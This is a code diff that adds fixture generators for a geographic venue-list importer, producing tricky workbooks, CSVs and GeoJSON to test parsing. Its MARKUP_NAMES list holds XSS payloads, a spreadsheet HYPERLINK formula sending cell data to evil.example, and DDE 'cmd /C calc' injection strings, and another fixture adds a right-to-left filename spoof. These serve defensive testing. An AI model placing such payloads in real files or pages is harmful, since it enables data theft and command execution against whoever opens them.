@@ -55,12 +55,13 @@ def _col(j: int) -> str:
 
 def write_xlsx(sheets: dict[str, Any], *, shared: list[str] | None = None,
                merges: dict[str, list[str]] | None = None, dimension: dict[str, str] | None = None,
-               level: int = 6) -> bytes:
+               level: int = 6, hidden: tuple[str, ...] = ()) -> bytes:
     """A minimal workbook written by hand (so that hostile shapes can be made at any size).
 
     ``sheets`` maps a sheet name to an iterable of rows (lists of str/float/None) or to a
     callable writing raw ``<row>`` XML to a binary file; strings are inline unless they are
-    ``("s", index)`` references into ``shared``.
+    ``("s", index)`` references into ``shared``, or ``("f", formula, cached value or None)``;
+    sheets named in ``hidden`` are hidden.
     """
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
@@ -70,7 +71,8 @@ def write_xlsx(sheets: dict[str, Any], *, shared: list[str] | None = None,
             sst=_SST_CT if shared is not None else ""))
         zf.writestr("_rels/.rels", _RELS)
         zf.writestr("xl/workbook.xml", f'<workbook {_NS} {_RNS}><sheets>' + "".join(
-            f'<sheet name="{escape(n)}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, n in enumerate(names))
+            f'<sheet name="{escape(n)}" sheetId="{i + 1}" r:id="rId{i + 1}"'
+            + (' state="hidden"' if n in hidden else "") + "/>" for i, n in enumerate(names))
             + "</sheets></workbook>")
         zf.writestr("xl/_rels/workbook.xml.rels",
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
@@ -120,7 +122,10 @@ def _row_xml(r: int, row: list[Any]) -> str:
         ref = f"{_col(j)}{r}"
         if v is None or v == "":
             continue
-        if isinstance(v, tuple):
+        if isinstance(v, tuple) and v[0] == "f":
+            cached = "" if v[2] is None else f"<v>{v[2]!r}</v>"
+            cells.append(f'<c r="{ref}"><f>{escape(v[1])}</f>{cached}</c>')
+        elif isinstance(v, tuple):
             cells.append(f'<c r="{ref}" t="s"><v>{v[1]}</v></c>')
         elif isinstance(v, (int, float)):
             cells.append(f'<c r="{ref}"><v>{v!r}</v></c>')
@@ -305,6 +310,270 @@ def malformed_geo(*, kind: str = "geojson") -> tuple[bytes, str, dict[str, Any]]
     return b"SQLite format 3\x00" + b"\x00" * 200, "broken.gpkg", {}
 
 
+# --- workbooks: where the list is, and how its cells are written ----------------------------------
+
+_HEAD = ["名称", "经度", "纬度", "所在区县"]
+
+
+def _list_rows(s: pd.DataFrame) -> list[list[Any]]:
+    return [_HEAD] + [[s.name[i], float(s.lon[i]), float(s.lat[i]), s.district[i]] for i in range(len(s))]
+
+
+def xlsx_sheets(*, layout: str = "instructions_first", n: int = 5, seed: int = 0
+                ) -> tuple[bytes, str, dict[str, Any]]:
+    """A workbook whose list is not simply its first sheet.
+
+    ``layout``: ``instructions_first`` (a sheet of instructions, then the list),
+    ``empty_first``, ``hidden_sheet`` (a hidden sheet with an old list comes first) or
+    ``list_on_sheet3`` (a cover, a notes sheet, then the list under a title row).
+    """
+    s = sites(n, seed=seed)
+    rows = _list_rows(s)
+    old = _list_rows(sites(3, seed=seed + 99))
+    hidden: tuple[str, ...] = ()
+    if layout == "instructions_first":
+        sheets: dict[str, Any] = {"填写说明": [["坐标请使用高德坐标"], ["名称请填写全称，不要缩写"], ["区县填写到区"]],
+                                  "场馆名单": rows}
+    elif layout == "empty_first":
+        sheets = {"Sheet1": [], "场馆名单": rows}
+    elif layout == "hidden_sheet":
+        sheets, hidden = {"旧名单": old, "场馆名单": rows}, ("旧名单",)
+    else:
+        sheets = {"封面": [["2024 年宁波市科普场馆"]], "备注": [["数据来源：区科协"], ["更新：2024-05"]],
+                  "场馆名单": [["2024 年科普场馆名单"], [], *rows]}
+    data = write_xlsx(sheets, hidden=hidden)
+    return data, f"{layout}.xlsx", {"sheet": "场馆名单", "names": list(s.name), "lon": list(s.lon),
+                                    "lat": list(s.lat), "sheets_with_data": [k for k, v in sheets.items() if v]}
+
+
+def xlsx_header_below(*, title_rows: int = 3, n: int = 6, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """A workbook whose header sits under merged title rows (row ``title_rows + 1`` or lower)."""
+    s = sites(n, seed=seed)
+    titles = [["宁波市科普场馆名单", "宁波市科普场馆名单", "宁波市科普场馆名单"], ["填报单位：某区科协"], []][:title_rows]
+    rows = [*titles, *_list_rows(s)]
+    data = write_xlsx({"名单": rows}, merges={"名单": ["A1:C1"]} if title_rows else None)
+    header = len(titles) + 1
+    return data, "header_below.xlsx", {"names": list(s.name), "header_row": header,
+                                       "lon": list(s.lon), "lat": list(s.lat)}
+
+
+def xlsx_formulas(*, cached: bool = True, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Coordinates computed by formulas (=B2+0.001), with or without the result saved in the file."""
+    s = sites(n, seed=seed)
+    rows: list[list[Any]] = [["名称", "经度原值", "经度", "纬度"]]
+    for i in range(n):
+        lon = float(s.lon[i])
+        rows.append([s.name[i], lon - 0.001, ("f", f"B{i + 2}+0.001", lon if cached else None), float(s.lat[i])])
+    data = write_xlsx({"名单": rows})
+    return data, f"formulas_{'cached' if cached else 'uncached'}.xlsx", {
+        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "cached": cached}
+
+
+def xlsx_dates_as_coordinates(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Coordinate cells formatted as dates/times in Excel (121.55 shows as 1900-04-30 13:12)."""
+    import openpyxl
+
+    s = sites(n, seed=seed)
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(_HEAD[:3])
+    for i in range(n):
+        ws.append([s.name[i], float(s.lon[i]), float(s.lat[i])])
+        ws.cell(i + 2, 2).number_format = "yyyy-mm-dd hh:mm"
+        ws.cell(i + 2, 3).number_format = "[h]:mm:ss" if i % 2 else "yyyy/m/d"
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue(), "dates.xlsx", {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+
+
+def _dms(v: float, pos: str, neg: str, style: int) -> str:
+    d = int(abs(v))
+    m_float = (abs(v) - d) * 60
+    m = int(m_float)
+    sec = (m_float - m) * 60
+    hemi = pos if v >= 0 else neg
+    return [f"{d}°{m}'{sec:.4f}\"{hemi}", f"{d}度{m}分{sec:.4f}秒", f"{hemi}{d}°{m_float:.6f}′",
+            f"{d} {m} {sec:.4f}"][style % 4]
+
+
+def text_numbers(*, kind: str = "fullwidth", n: int = 8, seed: int = 0, fmt: str = "csv"
+                 ) -> tuple[bytes, str, dict[str, Any]]:
+    """Coordinates written as text: ``fullwidth`` digits, a ``decimal_comma`` ("121，55"), ``dms``
+    (degrees-minutes-seconds in four styles) or with a ``hemisphere`` ("东经121.55").
+    """
+    s = sites(n, seed=seed)
+    full = str.maketrans("0123456789.-", "０１２３４５６７８９．－")
+
+    def write(v: float, axis: str, i: int) -> str:
+        if kind == "fullwidth":
+            return f"{v:.6f}".translate(full)
+        if kind == "decimal_comma":
+            return f"{v:.6f}".replace(".", "，" if i % 2 else ",")
+        if kind == "hemisphere":
+            return (f"东经{v:.6f}" if axis == "lon" else f"北纬{v:.6f}") if i % 2 else f"{v:.6f}{(axis == 'lon' and 'E') or 'N'}"
+        return _dms(v, "E" if axis == "lon" else "N", "W" if axis == "lon" else "S", i)
+
+    table = pd.DataFrame({"名称": s.name, "经度": [write(v, "lon", i) for i, v in enumerate(s.lon)],
+                          "纬度": [write(v, "lat", i) for i, v in enumerate(s.lat)]})
+    truth = {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+    if fmt == "xlsx":
+        return write_xlsx({"名单": [list(table.columns), *table.to_numpy().tolist()]}), f"{kind}.xlsx", truth
+    return table.to_csv(index=False).encode("utf-8"), f"{kind}.csv", truth
+
+
+def lonlat_one_cell(*, order: str = "lonlat", n: int = 6, seed: int = 0, header: str = "坐标"
+                    ) -> tuple[bytes, str, dict[str, Any]]:
+    """Both coordinates in one cell ("121.55,29.87", as AMap's picker copies them), or lat first."""
+    s = sites(n, seed=seed)
+    seps = [",", ", ", "，", " ", ";"]
+    cells = [(f"{s.lon[i]}{seps[i % 5]}{s.lat[i]}" if order == "lonlat" else f"{s.lat[i]}{seps[i % 5]}{s.lon[i]}")
+             for i in range(n)]
+    cells = [f"({c})" if i == 1 else c for i, c in enumerate(cells)]
+    table = pd.DataFrame({"名称": s.name, header: cells, "地址": s.address})
+    return table.to_csv(index=False).encode("utf-8"), "one_cell.csv", {
+        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+
+
+# --- text files: encodings, line endings, headers ------------------------------------------------
+
+def csv_bom_gb18030(*, n: int = 6, seed: int = 0, bom: str = "utf8") -> tuple[bytes, str, dict[str, Any]]:
+    """GB18030 text behind a UTF-8 BOM (an editor added it) or GB18030's own BOM."""
+    s = sites(n, seed=seed)
+    text = "名称,经度,纬度,地址\r\n" + "".join(
+        f"{s.name[i]}·甬,{s.lon[i]},{s.lat[i]},{s.address[i]}\r\n" for i in range(n))
+    prefix = b"\xef\xbb\xbf" if bom == "utf8" else "\ufeff".encode("gb18030")
+    return prefix + text.encode("gb18030"), "bom_gb18030.csv", {
+        "names": [f"{x}·甬" for x in s.name], "lon": list(s.lon), "lat": list(s.lat)}
+
+
+def csv_mixed_line_endings(*, n: int = 9, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Rows ended by \\r\\n, \\n and a lone \\r in turn (lists pasted together from several systems)."""
+    s = sites(n, seed=seed)
+    ends = ["\r\n", "\n", "\r"]
+    text = "名称,经度,纬度\r\n" + "".join(f"{s.name[i]},{s.lon[i]},{s.lat[i]}{ends[i % 3]}" for i in range(n))
+    return text.encode("utf-8"), "mixed_endings.csv", {"names": list(s.name), "lon": list(s.lon),
+                                                        "lat": list(s.lat)}
+
+
+def csv_duplicate_headers(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Two columns called 名称 (the Chinese and the English name) and two called 备注."""
+    s = sites(n, seed=seed)
+    lines = ["名称,名称,经度,纬度,备注,备注"] + [
+        f"{s.name[i]},Venue {i},{s.lon[i]},{s.lat[i]},a{i},b{i}" for i in range(n)]
+    return ("\n".join(lines) + "\n").encode(), "dup_headers.csv", {
+        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+
+
+# --- names: invisible characters, markup, formulas ------------------------------------------------
+
+#: Invisible or control characters as they arrive in names: NUL, C0, C1, bidi overrides and
+#: isolates, zero-width characters, BOM, soft hyphen, a Unicode tag, a line break.
+BREAKS = {"\n", "\u2028", "\x85"}  # line breaks become one space
+CONTROL_CHARS = ["\x00", "\x07", "\x1b", "\x85", "\x9b", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff",
+                 "\u00ad", "\U000e0041", "\n", "\u2028"]
+
+
+def names_with_control_chars(*, fmt: str = "csv", n: int = 8, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Names with control characters inside; one name is nothing but control characters.
+
+    XLSX writes them as the ``_xHHHH_`` escapes Excel uses (a lone surrogate ``_xD800_`` too),
+    GeoJSON as JSON escapes (``\\ud800`` included), CSV as the bytes themselves (no surrogates:
+    UTF-8 cannot hold them).
+    """
+    s = sites(n, seed=seed)
+    chars = [CONTROL_CHARS[i % len(CONTROL_CHARS)] for i in range(n)]
+    dirty = [f"{nm[:2]}{c}{nm[2:]}" for nm, c in zip(s.name, chars, strict=True)]
+    dirty[1] = f"{s.name[1][:2]}\x00\u202egnp.exe\u202c{s.name[1][2:]}"
+    clean = [f"{nm[:2]} {nm[2:]}" if c in BREAKS else nm for nm, c in zip(s.name, chars, strict=True)]
+    clean[1] = f"{s.name[1][:2]}gnp.exe{s.name[1][2:]}"
+    dirty[-1], clean[-1] = "\x00\u200b\u202e", ""  # nothing left: refused for a missing name
+    if fmt == "xlsx":
+        def esc(t: str) -> str:
+            return "".join(f"_x{ord(c):04X}_" if (ord(c) < 32 or 0xD800 <= ord(c) <= 0xDFFF) else c for c in t)
+        dirty_x = [esc(d) for d in dirty]
+        dirty_x[2] = esc(s.name[2][:2]) + "_xD800_" + s.name[2][2:]
+        clean[2] = s.name[2]
+        rows = [["名称", "经度", "纬度"]] + [[dirty_x[i], float(s.lon[i]), float(s.lat[i])] for i in range(n)]
+        data = write_xlsx({"名单": rows})
+    elif fmt == "geojson":
+        dirty[2] = s.name[2][:2] + "\ud800" + s.name[2][2:]
+        clean[2] = s.name[2]
+        feats = [{"type": "Feature", "properties": {"名称": dirty[i], "地址": f"某路{i}号\x00"},
+                  "geometry": {"type": "Point", "coordinates": [float(s.lon[i]), float(s.lat[i])]}}
+                 for i in range(n)]
+        data = json.dumps({"type": "FeatureCollection", "features": feats}).encode()
+    else:
+        table = pd.DataFrame({"名称": dirty, "经度": s.lon, "纬度": s.lat, "地址": [f"某路{i}\x00号" for i in range(n)]})
+        data = table.to_csv(index=False).encode("utf-8")
+    return data, f"control_chars.{fmt}", {"clean": clean, "lon": list(s.lon), "lat": list(s.lat)}
+
+
+#: Names that are markup or spreadsheet formulas.
+MARKUP_NAMES = ['<script>alert("x")</script>科技馆', '<img src=x onerror=alert(1)>图书馆',
+                '"><svg onload=alert(1)>', "[点我](javascript:alert(1))", "**粗体**_斜体_ `代码`",
+                '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "\t=1+1", "$5 与 $$10"]
+
+
+def markup_names(*, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """A list whose names (and addresses) are HTML, JavaScript, Markdown or spreadsheet formulas."""
+    n = len(MARKUP_NAMES)
+    s = sites(n, seed=seed)
+    table = pd.DataFrame({"名称": MARKUP_NAMES, "经度": s.lon, "纬度": s.lat,
+                          "地址": [f"<b>某路{i}号</b>" if i % 2 else '=HYPERLINK("x")' for i in range(n)]})
+    return table.to_csv(index=False).encode("utf-8"), "markup.csv", {"names": MARKUP_NAMES}
+
+
+# --- geometry files: mixed, missing and 3D geometries, a crs member, a zipped shapefile ------------
+
+def geojson_mixed(*, crs: str | None = None, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """Points (2D and 3D), a multipoint, a polygon, a line, a null geometry and an empty one.
+
+    ``crs``: a GeoJSON 2008 ``crs`` member, ``"EPSG:3857"`` (coordinates then in Web Mercator
+    metres), ``"EPSG:4490"`` (CGCS2000 degrees) or ``"CRS84"``.
+    """
+    from pyproj import Transformer
+
+    s = sites(7, seed=seed)
+    x, y = np.asarray(s.lon, float), np.asarray(s.lat, float)
+    if crs == "EPSG:3857":
+        x, y = Transformer.from_crs("EPSG:4326", "EPSG:3857", always_xy=True).transform(x, y)
+    d = 0.001 if crs != "EPSG:3857" else 111.0
+    geoms: list[Any] = [
+        {"type": "Point", "coordinates": [x[0], y[0]]},
+        {"type": "Point", "coordinates": [x[1], y[1], 12.5]},
+        {"type": "MultiPoint", "coordinates": [[x[2], y[2], 3.0]]},
+        {"type": "Polygon", "coordinates": [[[x[3] - d, y[3] - d], [x[3] + d, y[3] - d], [x[3] + d, y[3] + d],
+                                             [x[3] - d, y[3] + d], [x[3] - d, y[3] - d]]]},
+        {"type": "LineString", "coordinates": [[x[4] - d, y[4], 1.0], [x[4] + d, y[4], 2.0]]},
+        None,
+        {"type": "GeometryCollection", "geometries": []},
+    ]
+    feats = [{"type": "Feature", "properties": {"名称": s.name[i]}, "geometry": g} for i, g in enumerate(geoms)]
+    doc: dict[str, Any] = {"type": "FeatureCollection", "features": feats}
+    if crs:
+        name = "urn:ogc:def:crs:OGC:1.3:CRS84" if crs == "CRS84" else f"urn:ogc:def:crs:EPSG::{crs.split(':')[1]}"
+        doc["crs"] = {"type": "name", "properties": {"name": name}}
+    return json.dumps(doc).encode(), "mixed.geojson", {
+        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "placed": [0, 1, 2, 3, 4],
+        "unplaced": [5, 6]}
+
+
+def zipped_shapefile(*, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+    """A Shapefile's parts in a zip, as GIS offices send them."""
+    import geopandas as gpd
+
+    s = sites(n, seed=seed)
+    gdf = gpd.GeoDataFrame({"name": s.name}, geometry=shapely.points(s.lon, s.lat), crs="EPSG:4326")
+    buf = io.BytesIO()
+    with tempfile.TemporaryDirectory() as d, zipfile.ZipFile(buf, "w") as zf:
+        gdf.to_file(Path(d) / "venues.shp", engine="pyogrio")
+        for p in sorted(Path(d).iterdir()):
+            zf.write(p, p.name)
+    return buf.getvalue(), "venues.zip", {"names": list(s.name)}
+
+
+
 MAKERS = {
     "million_rows": xlsx_million_rows, "declared_rows": xlsx_declared_rows, "big_cell": xlsx_big_cell,
     "merged": xlsx_merged_category, "semicolon": lambda: csv_delimited(delimiter=";"),
@@ -314,6 +583,18 @@ MAKERS = {
     "empty_props": lambda: geojson_shapes(kinds=("point",), empty_coordinate_props=True),
     "address_only": lambda: geojson_shapes(kinds=("point",), address_only=3),
     "multi_layer": gpkg_layers, "gcj_unknown": gcj_near_lines, "broken_geojson": malformed_geo,
+    **{f"sheets_{k}": (lambda k=k: xlsx_sheets(layout=k))
+       for k in ("instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3")},
+    "header_below": xlsx_header_below, "formulas_cached": xlsx_formulas,
+    "formulas_uncached": lambda: xlsx_formulas(cached=False), "dates": xlsx_dates_as_coordinates,
+    **{f"text_{k}": (lambda k=k: text_numbers(kind=k))
+       for k in ("fullwidth", "decimal_comma", "dms", "hemisphere")},
+    "one_cell": lonlat_one_cell, "one_cell_latlon": lambda: lonlat_one_cell(order="latlon", header="经纬度"),
+    "bom_gb18030": csv_bom_gb18030, "mixed_endings": csv_mixed_line_endings,
+    "dup_headers": csv_duplicate_headers,
+    **{f"control_{f}": (lambda f=f: names_with_control_chars(fmt=f)) for f in ("csv", "xlsx", "geojson")},
+    "markup": markup_names, "geojson_mixed": geojson_mixed,
+    "geojson_3857": lambda: geojson_mixed(crs="EPSG:3857"), "shapefile_zip": zipped_shapefile,
 }
 
 
